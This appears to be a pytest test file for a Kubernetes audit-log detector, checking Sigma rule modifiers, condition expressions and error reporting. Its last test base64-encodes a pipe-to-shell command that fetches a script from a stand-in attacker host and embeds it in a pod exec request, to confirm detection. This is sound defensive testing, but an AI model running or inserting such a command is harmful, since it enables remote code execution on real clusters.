"""Sigma semantics on audit events: each modifier, value type and condition form, matched and not."""

from __future__ import annotations

import pytest

from kubeguard.detectors.rules.load import RuleLoadError
from rules.sigma_helpers import BASE_EVENT, matches, rule


@pytest.mark.parametrize(
    ("detection", "expected"),
    [
        ({"sel": {"verb": "create"}, "condition": "sel"}, True),
        ({"sel": {"verb": "CREATE"}, "condition": "sel"}, True),  # strings are case-insensitive
        ({"sel": {"verb": "delete"}, "condition": "sel"}, False),
        ({"sel": {"verb": ["get", "create"]}, "condition": "sel"}, True),  # a list is an OR
        ({"sel": {"objectRef.resource": "pods", "objectRef.namespace": "prod"}, "condition": "sel"}, False),
        ({"sel": {"user.username|contains": "lic"}, "condition": "sel"}, True),
        ({"sel": {"user.username|startswith": "ali"}, "condition": "sel"}, True),
        ({"sel": {"user.username|startswith": "lic"}, "condition": "sel"}, False),
        ({"sel": {"user.username|endswith": "ice"}, "condition": "sel"}, True),
        ({"sel": {"user.username": "a*e"}, "condition": "sel"}, True),
        ({"sel": {"user.username": "al?ce"}, "condition": "sel"}, True),
        ({"sel": {"user.username": "al?e"}, "condition": "sel"}, False),
        ({"sel": {"user.username|cased": "Alice"}, "condition": "sel"}, False),
        ({"sel": {"userAgent|re": "^kubectl/v1\\.3[0-9]"}, "condition": "sel"}, True),
        ({"sel": {"userAgent|re": "^KUBECTL"}, "condition": "sel"}, False),  # regexes are case-sensitive
        ({"sel": {"userAgent|re|i": "^KUBECTL"}, "condition": "sel"}, True),
        ({"sel": {"sourceIPs|cidr": "10.0.0.0/8"}, "condition": "sel"}, True),
        ({"sel": {"sourceIPs|cidr": "2001:db8::/32"}, "condition": "sel"}, True),  # any list element
        ({"sel": {"sourceIPs|cidr": "192.168.0.0/16"}, "condition": "sel"}, False),
        ({"sel": {"responseStatus.code|lt": 400}, "condition": "sel"}, True),
        ({"sel": {"responseStatus.code|lte": 201}, "condition": "sel"}, True),
        ({"sel": {"responseStatus.code|gt": 201}, "condition": "sel"}, False),
        ({"sel": {"responseStatus.code|gte": 201}, "condition": "sel"}, True),
        ({"sel": {"responseStatus.code": 201}, "condition": "sel"}, True),
        ({"sel": {"user.groups|contains|all": ["dev", "authenticated"]}, "condition": "sel"}, True),
        ({"sel": {"user.groups|contains|all": ["dev", "masters"]}, "condition": "sel"}, False),
        ({"sel": {"impersonatedUser.username|exists": True}, "condition": "sel"}, False),
        ({"sel": {"impersonatedUser.username|exists": False}, "condition": "sel"}, True),
        ({"sel": {"objectRef.subresource": None}, "condition": "sel"}, True),  # null: absent
        ({"sel": {"objectRef.namespace": None}, "condition": "sel"}, False),
        ({"sel": {"requestObject.spec.hostNetwork": True}, "condition": "sel"}, True),
        ({"sel": {"requestObject.spec.hostPID": True}, "condition": "sel"}, False),
        ({"sel": {"requestObject.spec.containers.securityContext.privileged": True}, "condition": "sel"}, True),
        ({"sel": {"requestObject.spec.containers.image|startswith": "evil/"}, "condition": "sel"}, True),
        ({"sel": {"requestObject.spec.containers.ports.containerPort|gte": 8000}, "condition": "sel"}, True),
        ({"sel": {"requestObject.metadata.labels.app.kubernetes.io/name": "web"}, "condition": "sel"}, True),
        ({"sel": {"annotations.authorization.k8s.io/decision": "allow"}, "condition": "sel"}, True),
        ({"sel": {"user.extra.sessionName": "s1"}, "condition": "sel"}, True),
        ({"kw": ["miner"], "condition": "kw"}, True),  # keyword: anywhere in the event
        ({"kw": ["bitcoin"], "condition": "kw"}, False),
    ],
)
def test_values_and_modifiers(detection, expected):
    assert matches(detection) is expected


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("a and b", True),
        ("a and c", False),
        ("a or c", True),
        ("not c", True),
        ("a and not c", True),
        ("a and not (b or c)", False),
        ("1 of sel_*", True),
        ("all of sel_*", False),
        ("all of them", False),
        ("1 of them and not c", True),
    ],
)
def test_condition_expressions(condition, expected):
    detection = {
        "a": {"verb": "create"},
        "b": {"objectRef.resource": "pods"},
        "c": {"objectRef.namespace": "kube-system"},
        "sel_one": {"user.username": "alice"},
        "sel_two": {"user.username": "bob"},
        "condition": condition,
    }
    assert matches(detection) is expected


def test_numbers_and_numeric_strings_compare_numerically():
    assert matches({"sel": {"responseStatus.code|lt": 400}, "condition": "sel"},
                   responseStatus={"code": 403}) is False
    assert matches({"sel": {"requestObject.spec.replicas|gt": 2}, "condition": "sel"},
                   requestObject={"spec": {"replicas": "5"}}) is True
    assert matches({"sel": {"requestObject.spec.replicas|gt": 2}, "condition": "sel"},
                   requestObject={"spec": {"replicas": True}}) is False  # a boolean is not a number


def test_an_absent_body_matches_nothing_and_null_matches_it():
    event = {k: v for k, v in BASE_EVENT.items() if k != "requestObject"}
    assert matches({"sel": {"requestObject.spec.hostNetwork": True}, "condition": "sel"}, event) is False
    assert matches({"sel": {"requestObject.spec.hostNetwork": None}, "condition": "sel"}, event) is True


def test_dispatch_reads_the_verbs_and_resources_a_rule_needs():
    narrow = rule({"a": {"verb": ["create", "update"], "objectRef.resource": "pods"}, "condition": "a"})
    assert narrow.verbs == {"create", "update"} and narrow.resources == {"pods"}
    either = rule({"a": {"verb": "create"}, "b": {"verb": "delete"}, "condition": "a or b"})
    assert either.verbs == {"create", "delete"} and either.resources is None
    negated = rule({"a": {"verb": "create"}, "condition": "not a"})
    assert negated.verbs is None
    wildcard = rule({"a": {"verb": "cr*"}, "condition": "a"})
    assert wildcard.verbs is None


@pytest.mark.parametrize(
    ("detection", "reason"),
    [
        ({"sel": {"objectref.resource": "pods"}, "condition": "sel"}, "unknown field 'objectref.resource'"),
        ({"sel": {"verb|nosuch": "x"}, "condition": "sel"}, "nosuch"),
        ({"sel": {"verb": "x"}, "condition": "sel and other"}, "other"),
        ({"sel": {"verb|re": "(["}, "condition": "sel"}, "Regular expression"),
        ({"sel": {"verb|expand": "%verbs%"}, "condition": "sel"}, "placeholder"),
    ],
)
def test_a_rule_that_cannot_be_evaluated_is_refused_with_the_reason(detection, reason):
    with pytest.raises(RuleLoadError) as caught:
        rule(detection)
    assert reason in str(caught.value)
    assert "\n" not in str(caught.value)


DEPLOYMENT = {
    **BASE_EVENT,
    "objectRef": {"resource": "deployments", "namespace": "dev", "name": "agent", "apiGroup": "apps"},
    "requestObject": {"kind": "Deployment", "spec": {"template": {"spec": {
        "volumes": [{"name": "root", "hostPath": {"path": "/etc"}}],
        "initContainers": [{"name": "i", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}],
        "containers": [{"name": "c"}],
    }}}},
    "level": "RequestResponse",
}


@pytest.mark.parametrize(
    ("detection", "expected"),
    [
        ({"sel": {"hostPath": "*"}, "condition": "sel"}, True),  # SigmaHQ's names for pod spec facts
        ({"sel": {"hostPath|startswith": "/var"}, "condition": "sel"}, False),
        ({"sel": {"capabilities": "sys_admin"}, "condition": "sel"}, True),
        ({"sel": {"apiGroup": "apps", "objectRef.resource": "deployments"}, "condition": "sel"}, True),
        ({"sel": {"level": "RequestResponse"}, "condition": "sel"}, True),
    ],
)
def test_sigmahq_field_names_and_workload_templates(detection, expected):
    assert matches(detection, DEPLOYMENT) is expected


def test_sigmahq_names_match_nothing_on_a_pod_without_them():
    assert matches({"sel": {"hostPath": "*"}, "condition": "sel"}) is False
    assert matches({"sel": {"capabilities|exists": True}, "condition": "sel"}) is False


@pytest.mark.parametrize(
    ("detection", "expected"),
    [
        ({"sel": {"requestObject.metadata.name|fieldref": "objectRef.name"}, "condition": "sel"}, True),
        ({"sel": {"requestObject.metadata.name|fieldref": "objectRef.namespace"}, "condition": "sel"}, False),
        ({"sel": {"responseStatus.code|neq": 200}, "condition": "sel"}, True),
        ({"sel": {"responseStatus.code|neq": 201}, "condition": "sel"}, False),
        ({"sel": {"requestURI|base64offset|contains": "/pods"}, "condition": "sel"}, False),
    ],
)
def test_fieldref_neq_and_expansions(detection, expected):
    assert matches(detection) is expected


def test_base64offset_finds_an_encoded_command():
    import base64

    encoded = base64.b64encode(b"curl http://evil.example | sh").decode()
    event = {**BASE_EVENT, "requestURI": f"/api/v1/namespaces/dev/pods/web/exec?command=echo+{encoded}"}
    assert matches({"sel": {"requestURI|base64offset|contains": "evil.example"}, "condition": "sel"}, event)
